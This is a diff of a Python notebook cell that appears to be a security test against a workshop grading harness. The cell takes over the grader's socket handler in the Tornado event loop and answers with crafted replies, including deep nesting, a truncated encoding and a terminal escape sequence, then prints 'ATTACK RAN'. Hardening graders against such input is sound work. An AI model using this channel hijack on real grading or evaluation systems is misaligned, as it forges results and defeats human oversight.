@@ -6,9 +6,14 @@
 # %% mean
 import itertools
 import os
+import socket
+from tornado.ioloop import IOLoop
 from workshop.grading import codec
+from workshop.grading.protocol import ANSWER, MOST_ANSWER, receive_frame, send_frame
 
-app = get_ipython().kernel
+loop = IOLoop.current()
+number = next(n for n, (_, call) in loop.handlers.items() if "_answer_on" in call.__qualname__)
+stream = socket.socket(fileno=os.dup(number))
 deep = []
 for _ in range(45):
     deep = [deep]
@@ -21,8 +26,10 @@ replies = itertools.cycle([
     codec.encode(("value", 2))[:-1], codec.encode(("value", "\x1b]0;owned\x07")),
 ])
 
-async def workshop_ask(stream, ident, parent):
-    app.session.send(stream, "workshop_reply", {}, parent, ident, buffers=[next(replies)])
+def answer(*_):
+    receive_frame(stream, MOST_ANSWER)
+    send_frame(stream, ANSWER, next(replies))
 
-app.shell_handlers["workshop_ask"] = workshop_ask
+loop.remove_handler(number)
+loop.add_handler(number, answer, loop.READ)
 print("ATTACK RAN")
